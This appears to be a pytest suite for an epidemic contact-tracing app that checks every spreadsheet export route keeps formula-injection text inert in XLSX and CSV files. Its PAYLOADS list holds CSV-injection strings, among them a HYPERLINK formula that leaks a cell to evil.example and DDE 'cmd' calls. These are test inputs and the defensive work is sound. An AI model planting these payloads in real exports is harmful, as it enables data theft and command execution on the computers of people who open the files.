"""Spreadsheet exports: one writer, and no export route lets a formula through.

Names, streets and venue names come from citizens and operators; a name such as
`=HYPERLINK("http://…"&B2,"Click")` must reach the official's spreadsheet as text, never as a
live formula (OWASP "CSV injection"). Every export route is found from the app's routes, so a
new export cannot skip these tests.
"""

from __future__ import annotations

import ast
import csv
import inspect
import io
import re
import uuid
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from epitrace.accounts.models import RoleGrant, UserAccount
from epitrace.alerts import campaigns as campaign_service
from epitrace.alerts import service as alert_service
from epitrace.alerts.service import Recipient
from epitrace.cases import service as case_service
from epitrace.cases.models import QuarantineKind
from epitrace.checkins.models import Presence, PresenceMethod
from epitrace.config import Settings
from epitrace.db import Database, utcnow
from epitrace.places.models import AdminUnit
from epitrace.rollout import adhoc as adhoc_service
from epitrace.rollout import reports as report_service
from epitrace.rollout.periods import PeriodType
from epitrace.security.models import AuditEntry
from epitrace.security.roles import Role
from epitrace.web import exports
from epitrace.web.routing import iter_api_routes
from tests import factories
from tests.alerts import campaign_factories
from tests.alerts import factories as alert_factories
from tests.declarations import factories as declarations
from tests.tracing import factories as f

SRC = Path(__file__).resolve().parents[2] / "src" / "epitrace"

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


# -- the writer ----------------------------------------------------------------------------


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


def assert_csv_safe(content: bytes) -> list[list[str]]:
    rows = _csv_rows(content)
    for row in rows:
        for value in row:
            assert _is_number(value) or not exports.is_formula_like(value), value
    return rows


def assert_xlsx_safe(content: bytes) -> list[list[Any]]:
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and exports.is_formula_like(cell.value):
                    assert cell.quotePrefix, cell.value
            values.append([c.value for c in row])
    return values


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_stays_text(payload: str) -> None:
    sheet = exports.Sheet("Danh sách", ("Họ và tên", "Tuổi"), [(payload, -5), ("An", 30)])
    written = payload.replace("\r", "\n")  # one kind of line break in every export
    rows = assert_xlsx_safe(exports.to_xlsx(sheet))
    assert rows[1] == [written, -5]  # the text as written, shown unchanged, never evaluated
    csv_rows = assert_csv_safe(exports.to_csv(sheet))
    assert csv_rows[0] == ["Họ và tên", "Tuổi"]
    assert csv_rows[1] == ["'" + written, "-5"]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=40), st.integers(), st.none()), max_size=8))
def test_any_text_round_trips_safely(rows: list[tuple[str, int, None]]) -> None:
    sheet = exports.Sheet("T", ("a", "b", "c"), rows)
    xlsx_rows = assert_xlsx_safe(exports.to_xlsx(sheet))[1:]
    csv_rows = assert_csv_safe(exports.to_csv(sheet))[1:]
    assert len(xlsx_rows) == len(csv_rows) == len(rows)
    illegal = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    for (text, number, _), xlsx_row, csv_row in zip(rows, xlsx_rows, csv_rows, strict=True):
        cleaned = illegal.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
        assert (xlsx_row[0] or "") == cleaned
        assert xlsx_row[1] in (number, str(number))  # long numbers are written as text
        assert xlsx_row[2] is None
        assert csv_row[0] == exports.neutralise(cleaned)
        assert csv_row[1] in (str(number), "'" + str(number))


def test_cells_dates_headers_widths_and_file_names() -> None:
    when = datetime(2026, 11, 29, 1, 30, tzinfo=UTC)
    sheet = exports.Sheet(
        "Theo phường/xã: [1]",
        ("Ngày", "Lúc", "Đã báo cáo", "Ghi chú"),
        [(date(2026, 11, 29), when, True, "x" * 200)],
    )
    book = load_workbook(io.BytesIO(exports.to_xlsx(sheet)))
    assert book.sheetnames == ["Theo phường-xã- -1-"]
    tab = book.active
    assert tab is not None
    assert [c.value for c in tab[2]] == ["29/11/2026", "29/11/2026 08:30", "Có", "x" * 200]
    assert tab.column_dimensions["A"].width == 12
    assert tab.column_dimensions["D"].width == exports.MAX_WIDTH
    assert exports.filename("Cách ly", "Phường Bến Thành", ext="csv", day=date(2026, 11, 29)) == (
        "cach-ly-phuong-ben-thanh-2026-11-29.csv"
    )
    response = exports.attachment(b"x", name="đ.csv")
    assert response.media_type == exports.CSV_MEDIA_TYPE
    assert "filename*=UTF-8''%C4%91.csv" in response.headers["content-disposition"]


def test_only_the_export_writer_writes_spreadsheets() -> None:
    """The class rule: no module but `web/exports.py` builds a workbook or a CSV writer."""
    offenders = []
    # Reads uploaded lists (openpyxl.load_workbook, read-only, values only); writes nothing.
    readers = {SRC / "rollout" / "spreadsheets.py"}
    for path in SRC.rglob("*.py"):
        if path == SRC / "web" / "exports.py" or path in readers:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                offenders.append(f"{path.relative_to(SRC)}: imports {node.module}")
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(SRC)}: csv.{node.attr}")
    assert offenders == []


# -- every export route ---------------------------------------------------------------------

Setup = Callable[[Database, Any, TestClient], str]  # returns the URL, with {fmt}


def _contacts(db: Database, headers: Any, client: TestClient) -> str:
    now = datetime.now(UTC)
    with db.session_scope() as s:
        f0 = f.person(s, "Lê Văn Tám", phone="0911000001")
        contact = f.person(s, PAYLOADS[0], phone="0911000002")
        market = f.venue(s, name=PAYLOADS[1])
        start = (now - timedelta(days=2) - f.T0).total_seconds() / 60
        f.presence(s, venue=market, who=f0, start=start, end=start + 45)
        f.presence(s, venue=market, who=contact, start=start + 10, end=start + 60)
        f0_id = str(f0.id)
    case = client.post(
        "/api/v1/cases",
        json={"person_id": f0_id, "sampled_at": (now - timedelta(days=1)).isoformat()},
        headers=headers,
    )
    assert case.status_code == 201, case.text
    traced = client.post(f"/api/v1/cases/{case.json()['id']}/trace", headers=headers)
    assert traced.status_code == 200, traced.text
    return f"/api/v1/cases/{case.json()['id']}/contacts/export.{{fmt}}"


def _quarantine(db: Database, headers: Any, client: TestClient) -> str:
    with db.session_scope() as s:
        person = f.person(s, PAYLOADS[2], phone="0911000003")
        case_service.issue_order(
            s,
            person=person,
            reason="f1",
            kind=QuarantineKind.FACILITY,
            ward_code=None,
            starts_at=utcnow() - timedelta(hours=1),
            facility_name=PAYLOADS[3],
        )
    return "/api/v1/quarantine/export.{fmt}"


def _flagged(db: Database, headers: Any, client: TestClient) -> str:
    with db.session_scope() as s:
        declarations.declare(
            s,
            now=utcnow(),
            full_name=PAYLOADS[4].strip() + " An",
            street=PAYLOADS[0],
            symptoms=["fever"],
            other_symptom=PAYLOADS[1],
        )
    return "/api/v1/declarations/flagged.{fmt}?area=79"


def _counts(db: Database, headers: Any, client: TestClient) -> str:
    with db.session_scope() as s:
        venue = f.venue(s, name=PAYLOADS[0])
        s.add(
            Presence(
                venue_id=venue.id,
                ward_code=venue.ward_code,
                person_id=f.person(s).id,
                entered_at=utcnow(),
                method=PresenceMethod.SELF_SCAN,
            )
        )
    return "/checkins/counts.{fmt}?area=79"


def _report_rate(db: Database, headers: Any, client: TestClient) -> str:
    """A unit whose name looks like a formula, in the reporting rate of its province (the
    export's account is made a DIC officer of the province for it)."""
    me = client.get("/api/v1/me", headers=headers).json()
    with db.session_scope() as s:
        s.add(RoleGrant(user_id=uuid.UUID(me["user_id"]), role=Role.DIC_OFFICER, area_code="79"))
        unit = s.get(AdminUnit, "26743")
        assert unit is not None
        unit.name = PAYLOADS[0]
        form = report_service.create_form(
            s,
            name="Báo cáo tuần",
            area_code="79",
            period_type=PeriodType.WEEKLY,
            due_days=1,
            levels=["ward"],
            created_by=None,
        )
        form_id = form.id
    return f"/rollout/reports/{form_id}/rate.{{fmt}}?area=79&period=2026-W40"


def _adhoc_answers(db: Database, headers: Any, client: TestClient) -> str:
    """A ward's answer that looks like a formula, in the export of an ad-hoc request (the
    export's account is made a DIC officer of the province for it)."""
    me = client.get("/api/v1/me", headers=headers).json()
    with db.session_scope() as s:
        s.add(RoleGrant(user_id=uuid.UUID(me["user_id"]), role=Role.DIC_OFFICER, area_code="79"))
        area = report_service.get_unit(s, code="79")
        request = adhoc_service.create(
            s,
            title="Báo cáo nhanh",
            questions=[PAYLOADS[1]],
            area=area,
            deadline=utcnow() + timedelta(days=1),
            unit_codes=["26743"],
            created_by=None,
        )
        adhoc_service.answer(
            s,
            request=request,
            unit_code="26743",
            answers=[PAYLOADS[0]],
            actor=report_service.Actor(None, PAYLOADS[2]),
        )
        request_id = request.id
    return f"/rollout/adhoc/{request_id}/answers.{{fmt}}"


def _campaign_dashboard(db: Database, headers: Any, client: TestClient) -> str:
    """A campaign to a ward whose name looks like a formula (the export's account is made a
    DIC officer of the province for it)."""
    me = client.get("/api/v1/me", headers=headers).json()
    with db.session_scope() as s:
        user_id = uuid.UUID(me["user_id"])
        s.add(RoleGrant(user_id=user_id, role=Role.DIC_OFFICER, area_code="79"))
        alert_factories.citizen(s, "0912000001", ward="26743")
        campaign = campaign_factories.campaign(s, user_id)
        campaign_service.launch(s, campaign=campaign, by=user_id, settings=Settings())
        unit = s.get(AdminUnit, "26743")
        assert unit is not None
        unit.name = PAYLOADS[0]
        campaign_id = campaign.id
    return f"/campaigns/{campaign_id}/dashboard.{{fmt}}"


def _alerts_dashboard(db: Database, headers: Any, client: TestClient) -> str:
    """Contact alerts to a ward whose name looks like a formula."""
    with db.session_scope() as s:
        person, _account = alert_factories.citizen(s, "0912000002", ward="26743")
        alert_service.enqueue(
            s,
            recipients=[Recipient.person(person.id)],
            template="contact_alert_f1",
            params={"day": "01/12", "where": "", "days": 7},
            dedup_key="export:1",
        )
        unit = s.get(AdminUnit, "26743")
        assert unit is not None
        unit.name = PAYLOADS[1]
    return "/alerts/dashboard.{fmt}?area=79&kind=contact_alert"


def _access_report(db: Database, headers: Any, client: TestClient) -> str:
    """Reads by a staff account whose display name looks like a formula (the export's account
    is made a system administrator of the province for it)."""
    me = client.get("/api/v1/me", headers=headers).json()
    with db.session_scope() as s:
        s.add(RoleGrant(user_id=uuid.UUID(me["user_id"]), role=Role.SYSTEM_ADMIN, area_code="79"))
        factories.staff(s, username="reader-formula", role="health_officer", area="79")
        reader = s.scalars(
            select(UserAccount).where(UserAccount.username == "reader-formula")
        ).one()
        reader.display_name = PAYLOADS[0]
        s.add(
            AuditEntry(
                actor_id=reader.id,
                actor_label=PAYLOADS[0],
                action="read",
                subject_type="person",
                subject_id=str(uuid.uuid4()),
                purpose="citizen_request",
            )
        )
    return "/api/v1/audit/report.{fmt}?by=account"


EXPORTS: dict[str, tuple[Setup, str]] = {
    "/api/v1/audit/report.{fmt}": (_access_report, PAYLOADS[0]),
    "/campaigns/{campaign_id}/dashboard.{fmt}": (_campaign_dashboard, PAYLOADS[0]),
    "/alerts/dashboard.{fmt}": (_alerts_dashboard, PAYLOADS[1]),
    "/rollout/adhoc/{request_id}/answers.{fmt}": (_adhoc_answers, PAYLOADS[0]),
    "/rollout/reports/{form_id}/rate.{fmt}": (_report_rate, PAYLOADS[0]),
    "/api/v1/cases/{case_id}/contacts/export.{fmt}": (_contacts, PAYLOADS[0]),
    "/api/v1/quarantine/export.{fmt}": (_quarantine, PAYLOADS[2]),
    "/api/v1/declarations/flagged.{fmt}": (_flagged, PAYLOADS[0]),
    "/checkins/counts.{fmt}": (_counts, PAYLOADS[0]),
}


# Downloads that are not spreadsheets, or hold no text a person typed.
NOT_SPREADSHEETS = {
    "/api/v1/exposure/exports/{name}.zip": "signed GAEN key export (protobuf)",
    "/api/v1/exposure/exports/index.txt": "list of key export file names",
    # blank lists to fill in: fixed headers and an example row, written by the export writer
    "/rollout/organisations/template.xlsx": "blank list of organisations",
    "/rollout/organisations/{organisation_id}/roster/template.xlsx": "blank roster",
    # figures, and names of loaded units and of sectors; the XLSX goes through the export writer
    "/rollout/report.{fmt}": "formal rollout report (PDF or XLSX)",
}


def export_routes(app: FastAPI) -> set[str]:
    """Routes that may answer with a spreadsheet: a format or "export" in the path, or an
    endpoint that calls the export writer."""
    found = set()
    for route in iter_api_routes(app.routes):
        path = route.path
        by_path = re.search(r"\.(\{fmt\}|xlsx|csv|xls|ods)$", path) or "export" in path.lower()
        by_code = "exports." in inspect.getsource(route.endpoint)
        if (by_path or by_code) and path not in NOT_SPREADSHEETS:
            found.add(path)
    return found


def test_every_export_route_is_tested(app: FastAPI) -> None:
    assert export_routes(app) == set(EXPORTS), "add the new export to EXPORTS with a payload"


@pytest.mark.parametrize("route", sorted(EXPORTS))
def test_export_route_neutralises_formulas(
    route: str, client: TestClient, db: Database, places: Any, make_staff: Any
) -> None:
    officer = make_staff("health_officer", "79")
    setup, payload = EXPORTS[route]
    url = setup(db, officer, client)
    xlsx = client.get(url.format(fmt="xlsx"), headers=officer)
    assert xlsx.status_code == 200, xlsx.text
    assert xlsx.headers["content-type"] == exports.XLSX_MEDIA_TYPE
    disposition = xlsx.headers["content-disposition"]
    assert re.match(r'attachment; filename="[a-z0-9-]+\.xlsx"', disposition)
    cells = [v for row in assert_xlsx_safe(xlsx.content) for v in row]
    assert payload in cells

    as_csv = client.get(url.format(fmt="csv"), headers=officer)
    assert as_csv.status_code == 200, as_csv.text
    assert as_csv.headers["content-type"] == exports.CSV_MEDIA_TYPE
    fields = [v for row in assert_csv_safe(as_csv.content) for v in row]
    assert "'" + payload in fields

    other = client.get(url.format(fmt="pdf"), headers=officer)
    assert other.status_code in (404, 422)
